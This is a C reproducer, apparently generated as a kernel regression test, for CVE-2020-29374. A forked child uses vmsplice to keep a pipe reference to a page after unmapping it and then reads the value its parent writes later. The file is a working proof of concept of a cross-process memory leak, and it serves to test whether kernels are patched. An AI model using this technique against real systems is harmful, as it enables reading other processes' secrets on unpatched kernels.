// SPDX-License-Identifier: Apache-2.0
/*
 * vmsplice-child-unmaps-parent-writes: Can a child keep a pipe's reference and read its parent's
 * later secret? A child keeps a pipe's reference to a page that its parent writes later
 * (CVE-2020-29374).
 *
 * The test, in Muster's language; the functions below do what it says:
 *
 *     test vmsplice-child-unmaps-parent-writes
 *
 *     map x: anonymous private = 1
 *
 *     process parent {
 *         fork child {
 *             pipe = vmsplice(x)
 *             munmap(x)
 *             signal taken
 *             await written
 *             seen = read(pipe)
 *         }
 *         await taken
 *         *x = 2
 *         signal written
 *     }
 *
 *     never child:seen == 2
 *
 * Which kernels are affected, by the model of their rules:
 *
 *     bad; isolation broken   before 5.8
 *     good                    5.8 to before 5.10.1; 5.10.150 and later; Debian's 5.10; Debian's
 *                             6.1; Debian's 6.12; Debian's 7.2
 *
 * Build and run:
 *
 *     cc -O1 -static -pthread -o reproducer vmsplice-child-unmaps-parent-writes.c
 *     ./reproducer
 *
 * It needs nothing but Linux: no privileges, no configuration.
 *
 * It exits with 0 when the kernel is good, 1 when it is bad, 4 when that cannot be told.
 *
 * Printed when good, for example:
 *
 *     # child:pipe = 0
 *     # child:seen = 1
 *
 * Printed when bad, for example:
 *
 *     # child:pipe = 0
 *     # child:seen = 2
 *
 * Made by "muster emit".
 */

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/futex.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { parent, child, ACTORS }; /* processes and threads */
enum { taken, written, EVENTS }; /* events */
enum { pipe_of_child }; /* references to pages */
enum { child_pipe, child_seen, REGISTERS }; /* what is kept */

/* Where the memory of the test is. What is stored there is 16 bits wide. */
static volatile uint16_t *const x = (uint16_t *)0x100000000000;

enum {
    PAGE_BYTES = 4096,
    /* Where the four words of a page are, in bytes from each other. */
    WORD_STRIDE = 1024,
};

struct range {
    uintptr_t address;
    size_t bytes;
};

/* What the test does; how is further below. */
static void keep(int index, long value);
static void signal_event(int event);
static void await_event(int event);
static long fork_actor(int actor);
static long take_pipe(int index, struct range range);
static long read_pipe(int index, int page, int word);
static long value_of(int index);
static struct range range_at(volatile uint16_t *first, int count);
static void tell(const char *name, long value, const char *expected);

static void run_parent(void) {
    fork_actor(child);
    await_event(taken);
    *x = 2;
    signal_event(written);
}

static void run_child(void) {
    /* pipe = vmsplice(x) */
    keep(child_pipe, take_pipe(pipe_of_child, range_at(x, 1)));
    munmap((void *)x, PAGE_BYTES);
    signal_event(taken);
    await_event(written);
    /* seen = read(pipe) */
    keep(child_seen, read_pipe(pipe_of_child, 0, 0));
}

/* never child:seen == 2 */
static bool is_bad(void) {
    return value_of(child_seen) == 2;
}

/* What came of it, and what a good kernel gives. */
static void tell_outcome(void) {
    tell("child:pipe", value_of(child_pipe), "0");
    tell("child:seen", value_of(child_seen), "1");
}

/* ---- What the test is made of ---- */

#define NOTHING_THERE (LONG_MIN + 1)

/* The result of a system call that gave -1 and errno. */
static long result_of(long returned) { return returned < 0 ? -errno : returned; }

/* 0, or the negative errno of a system call that gave -1. */
static long status_of(long returned) { return returned < 0 ? -errno : 0; }

#define NANOSECONDS_OF_SECOND UINT64_C(1000000000)

static uint64_t nanoseconds_now(void) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (uint64_t)now.tv_sec * NANOSECONDS_OF_SECOND + (uint64_t)now.tv_nsec;
}

static void sleep_milliseconds(unsigned milliseconds) {
    struct timespec time = {milliseconds / 1000, (long)(milliseconds % 1000) * 1000000};
    while (nanosleep(&time, &time) != 0 && errno == EINTR) {}
}

/* Waits while a word is as expected, at most so long; 0 for any time. */
static void futex_wait(_Atomic uint32_t *word, uint32_t expected, uint64_t nanoseconds) {
    struct timespec time = {(time_t)(nanoseconds / NANOSECONDS_OF_SECOND),
            (long)(nanoseconds % NANOSECONDS_OF_SECOND)};
    syscall(SYS_futex, word, FUTEX_WAIT, expected, nanoseconds ? &time : NULL, NULL, 0);
}

static void futex_wake(_Atomic uint32_t *word) {
    syscall(SYS_futex, word, FUTEX_WAKE, INT_MAX, NULL, NULL, 0);
}

enum {
    REFERENCE_DESCRIPTORS = 150, /* + 2 * the reference's index, and the one behind it */
};

/* What an actor is doing. */
enum actor_state {
    NOT_STARTED,
    RUNNING,
    FINISHED, /* at the end of its block, idle */
};

struct actor {
    _Atomic uint32_t state;
    _Atomic int pid, tid;
    _Atomic int fork_failed;
};

struct measured_register {
    _Atomic int written;
    _Atomic long value;
};

struct control {
    struct actor actors[ACTORS];
    struct measured_register registers[REGISTERS];
    _Atomic uint32_t events[EVENTS];
    /* Why the test cannot go on, which is nobody's outcome: a text for the report. */
    _Atomic int broken;
    char trouble[256];
};

static struct control *control;

/* The process that runs this. */
static int self;

static void note_trouble_with(const char *format, va_list arguments) {
    char text[sizeof control->trouble];
    vsnprintf(text, sizeof text, format, arguments);
    if (control->trouble[0] == 0) memcpy(control->trouble, text, sizeof text);
    atomic_store(&control->broken, 1);
}

/*
 * Says that something around the test went wrong, which is nobody's outcome; who says it does
 * nothing more.
 */
__attribute__((noreturn, format(printf, 1, 2))) static void give_up(const char *format, ...) {
    va_list arguments;
    va_start(arguments, format);
    note_trouble_with(format, arguments);
    va_end(arguments);
    for (;;) pause();
}

struct actor_declaration {
    void (*run)(void);
};

static const struct actor_declaration actors[] = {
    [parent] = {.run = run_parent},
    [child] = {.run = run_child},
};

/* Keeps what a statement came to. */
static void keep(int index, long value) {
    atomic_store(&control->registers[index].value, value);
    atomic_store(&control->registers[index].written, 1);
}

static void signal_event(int event) {
    atomic_store(&control->events[event], 1);
    futex_wake(&control->events[event]);
}

static void await_event(int event) {
    if (atomic_load(&control->events[event])) return;
    while (!atomic_load(&control->events[event])) futex_wait(&control->events[event], 0, 0);
}

static void begin(int actor) {
    self = actor;
    atomic_store(&control->actors[actor].pid, getpid());
    atomic_store(&control->actors[actor].state, RUNNING);
}

/* Runs an actor's statements from one on; then it stays, idle, until the test is over. */
__attribute__((noreturn)) static void run_to_the_end(int actor) {
    actors[actor].run();
    atomic_store(&control->actors[self].state, FINISHED);
    for (;;) pause();
}

/* A child whose fork failed. */
static void forget_child(int child) {
    atomic_store(&control->actors[child].fork_failed, 1);
    atomic_store(&control->actors[child].state, NOT_STARTED);
}

/* fork(2): the child runs the actor's block. */
static long fork_actor(int actor) {
    /* Before it is there: nobody may take it for one that never begins. */
    atomic_store(&control->actors[actor].state, RUNNING);
    long pid = fork();
    if (pid == 0) {
        prctl(PR_SET_PDEATHSIG, 0);
        begin(actor);
        run_to_the_end(actor);
    }
    if (pid < 0) {
        long error = -errno;
        forget_child(actor);
        return error;
    }
    atomic_store(&control->actors[actor].pid, (int)pid);
    return 0;
}

static int descriptor_of(int reference) { return REFERENCE_DESCRIPTORS + 2 * reference; }

static bool is_open(int descriptor) { return fcntl(descriptor, F_GETFD) >= 0; }

/* Puts a descriptor where the name's is; children inherit it. */
static long place_descriptor(int descriptor, int place) {
    if (descriptor == place) return 0;
    long result = status_of(dup2(descriptor, place));
    close(descriptor);
    return result;
}

/* Before every use of a name: -EBADF where this process does not have it. */
static long check_reference(int index) {
    return is_open(descriptor_of(index)) ? 0 : -EBADF;
}

/*
 * vmsplice(2): a pipe that refers to pages, for reading. The pipe's two ends are the reference's
 * two descriptors.
 */

/* Lets a pipe refer to pages. */
static long take_pipe(int index, struct range range) {
    struct iovec pages = {(void *)range.address, range.bytes};
    int ends[2];
    if (pipe(ends) != 0) return -errno;
    long got = vmsplice(ends[1], &pages, 1, SPLICE_F_NONBLOCK);
    if (got != (long)range.bytes) {
        long error = got < 0 ? -errno : -EFAULT;
        close(ends[0]), close(ends[1]);
        return error;
    }
    place_descriptor(ends[0], descriptor_of(index));
    return place_descriptor(ends[1], descriptor_of(index) + 1);
}

/*
 * Reads a word of what the pipe refers to, and leaves the pipe as it is: the pages are duplicated
 * by tee(2) first.
 */
static long read_pipe(int index, int page, int word) {
    char content[PAGE_BYTES];
    int copy[2];
    if (check_reference(index) != 0) return -EBADF;
    if (pipe(copy) != 0) return -errno;
    long result = result_of(tee(descriptor_of(index), copy[1], (size_t)(page + 1) * PAGE_BYTES,
            SPLICE_F_NONBLOCK));
    for (int each = 0; each <= page && result >= 0; each++)
        if (read(copy[0], content, PAGE_BYTES) != PAGE_BYTES) result = -EIO;
    close(copy[0]), close(copy[1]);
    return result < 0 ? result : *(uint16_t *)(content + word * WORD_STRIDE);
}

static void stay_on_cpu(int cpu) {
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(cpu, &set);
    sched_setaffinity(0, sizeof set, &set);
}

/* When a run has taken too long. */
static uint64_t end_of_run(void) {
    enum { SECONDS_FOR_ONE_RUN = 10 };
    return nanoseconds_now() + SECONDS_FOR_ONE_RUN * NANOSECONDS_OF_SECOND;
}

/* What was kept in a register; NOTHING_THERE where the test did not get so far. */
static long value_of(int index) {
    struct measured_register *kept = &control->registers[index];
    return atomic_load(&kept->written) ? atomic_load(&kept->value) : NOTHING_THERE;
}

/* Ends all processes of the test, and waits until they are gone. */
static void kill_everybody(void) {
    for (int actor = 0; actor < ACTORS; actor++) {
        int pid = atomic_load(&control->actors[actor].pid);
        if (pid) kill(pid, SIGKILL);
    }
    /* Parents come first: then their children are ours. */
    for (int actor = 0; actor < ACTORS; actor++) {
        int pid = atomic_load(&control->actors[actor].pid);
        if (!pid) continue;
        while (waitpid(pid, NULL, __WALL) < 0 && errno == EINTR) {}
    }
}

/* Verdicts are exit statuses, as selftests of the kernel have them. */
enum verdict { GOOD = 0, BAD = 1, UNKNOWN = 4 };

/* Maps memory of the test at its place. */
static void map_memory(void *place, size_t bytes, int protection, int flags, int file) {
    if (mmap(place, bytes, protection, flags | MAP_FIXED_NOREPLACE, file, 0) != place)
        give_up("mmap: %s", strerror(errno));
}

static struct range range_at(volatile uint16_t *first, int count) {
    return (struct range){(uintptr_t)first, (size_t)count * PAGE_BYTES};
}

static bool is_blocked(int actor) {
    uint32_t state = atomic_load(&control->actors[actor].state);
    return state != NOT_STARTED && state < FINISHED;
}

/* Nothing compares to what is not there. */
static bool is_there(long value) { return value > NOTHING_THERE; }

static void tell(const char *name, long value, const char *expected) {
    printf("#   %s = ", name);
    if (!is_there(value))
        printf("nothing");
    else if (value < 0)
        printf("%ld (%s)", value, strerror((int)-value));
    else
        printf("%ld", value);
    if (expected) printf(" (good: %s)", expected);
    printf("\n");
}

/* Whether nobody has anything left to do. */
static bool all_are_done(void) {
    for (int actor = 0; actor < ACTORS; actor++)
        if (is_blocked(actor)) return false;
    return true;
}

/* Waits until nobody has anything left to do: false when it took too long. */
static bool wait_until_done(void) {
    uint64_t end = end_of_run();
    for (;;) {
        if (atomic_load(&control->broken) || all_are_done()) return true;
        if (nanoseconds_now() > end) return false;
        sleep_milliseconds(1);
    }
}

/* Memory that all processes of the test share, outside of what is tested. */
static void share_memory(void) {
    control = mmap(NULL, sizeof *control, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1,
            0);
    if (control == MAP_FAILED) {
        perror("no memory to share");
        exit(UNKNOWN);
    }
    /* Grandchildren whose parent is gone are to be waited for. */
    prctl(PR_SET_CHILD_SUBREAPER, 1);
}

/* The last words: what they are, and the status to exit with. */
static int finish(const char *name, enum verdict verdict, const char *reason) {
    if (verdict == UNKNOWN && !*reason) reason = "it did not come to an end";
    if (verdict == UNKNOWN)
        printf("%s: cannot be told here: %s\n", name, reason);
    else
        printf("%s: %s\n", name, verdict == GOOD ? "good" : "BAD");
    return (int)verdict;
}

/* ---- Running it ---- */

/* The memory that is there when the test begins. */
static void prepare_memory(void) {
    /* map x: anonymous private = 1 */
    map_memory((void *)x, PAGE_BYTES, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1);
    *x = 1;
}

/* Starts the process that has the memory of the test. */
static void start_process(int actor) {
    atomic_store(&control->actors[actor].state, RUNNING);
    int pid = fork();
    if (pid < 0) give_up("fork: %s", strerror(errno));
    if (pid > 0) {
        atomic_store(&control->actors[actor].pid, pid);
        return;
    }
    stay_on_cpu(sched_getcpu());
    begin(actor);
    prepare_memory();
    run_to_the_end(actor);
}

/* Runs the test once, in fresh processes. */
static enum verdict run_once(void) {
    enum verdict verdict = UNKNOWN;
    memset((void *)control, 0, sizeof *control);
    start_process(parent);
    if (wait_until_done() && !control->broken) {
        verdict = is_bad() ? BAD : GOOD;
        tell_outcome();
    }
    kill_everybody();
    return verdict;
}

int main(void) {
    share_memory();
    enum verdict verdict = run_once();
    return finish("vmsplice-child-unmaps-parent-writes", verdict, control->trouble);
}
